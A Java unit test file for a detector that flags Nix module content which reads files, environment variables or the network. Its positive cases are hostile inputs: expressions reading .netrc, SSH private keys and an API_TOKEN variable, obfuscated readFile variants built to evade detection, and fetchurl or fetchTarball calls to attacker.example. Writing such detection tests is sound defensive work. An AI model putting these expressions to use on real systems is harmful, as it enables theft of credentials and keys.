package org.agntos.core.tool;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ModuleReachTest {
    private static ObjectNode module(String content) {
        ObjectNode arguments = Json.object();
        arguments.putArray("modules").addObject().put("path", "options/x.nix").put("content", content);
        return arguments;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{ x = builtins.readFile \"/home/ada/.netrc\"; }",
                "{ x = builtins . readFile (\"/home\" + \"/ada\"); }",
                "{ x = builtins.\"readFile\" \"/x\"; }",
                "{ x = builtins.${\"read\" + \"File\"} \"/x\"; }",
                "{ x = builtins.\"read${\"File\"}\" \"/x\"; }",
                "{ x = with builtins; readFile \"/x\"; }",
                "{ x = let b = builtins; in b.${\"readFil\" + \"e\"} \"/x\"; }",
                "let inherit (builtins) readFile; in { x = readFile \"/x\"; }",
                "{ lib, ... }: { x = lib.fileContents \"/x\"; }",
                "{ lib, ... }: { x = lib.${\"fileContents\"} \"/x\"; }",
                "{ x = \"${/home/ada/.ssh/id_ed25519}\"; }",
                "{ x = /home/ada/.ssh/id_ed25519; }",
                "{ x = ~/.ssh/id_ed25519; }",
                "{ x = ./../../.ssh/id_ed25519; }",
                "{ x = <nixpkgs>; }",
                "{ x = import (\"/home/ada\" + \"/x.nix\"); }",
                "{ imports = [ \"/home/ada/x.nix\" ]; }",
                "{ x = builtins.fetchurl \"http://attacker.example\"; }",
                "{ x = fetchTarball \"http://attacker.example\"; }",
                "{ x = builtins.getEnv \"API_TOKEN\"; }",
                "{ x = builtins.getFlake \"/home/ada\"; }",
                "{ x = __readFile \"/x\"; }",
            })
    void whatReadsIsFound(String content) {
        assertThat(ModuleReach.of(module(content))).as(content).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{ pkgs, lib, ... }: { environment.systemPackages = with pkgs; [ htop ]; }",
                "{ services.nginx.virtualHosts.\"example.org\".root = \"/srv/www\"; }",
                "{ lib, ... }: { x = lib.mkForce false; # readFile in a comment\n }",
                "{ users.users.ada.hashedPasswordFile = \"/run/secrets/ada\"; }",
                "{ x = builtins.toJSON { a = 1; }; }",
                "{ pkgs, ... }: { x = pkgs.fetchurl { url = \"https://example.org\"; hash = \"\"; }; }",
                "{ x = ''\n  cat /etc/hosts\n''; }",
            })
    void whatOnlySaysIsNot(String content) {
        assertThat(ModuleReach.of(module(content))).as(content).isEmpty();
    }
}
